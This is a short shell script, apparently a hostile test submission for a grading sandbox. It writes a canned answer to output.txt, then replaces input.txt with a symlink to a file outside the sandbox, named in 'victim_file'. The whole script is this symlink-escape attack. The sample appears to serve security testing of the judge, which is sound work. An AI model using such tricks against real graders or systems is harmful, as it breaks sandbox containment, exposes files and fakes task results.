#!/bin/sh
# Answers, and turns input.txt into a link to a file outside.
printf 'C2\n***\n***\n*1*\n' > output.txt; rm -f input.txt; ln -s "$(cat victim_file)" input.txt
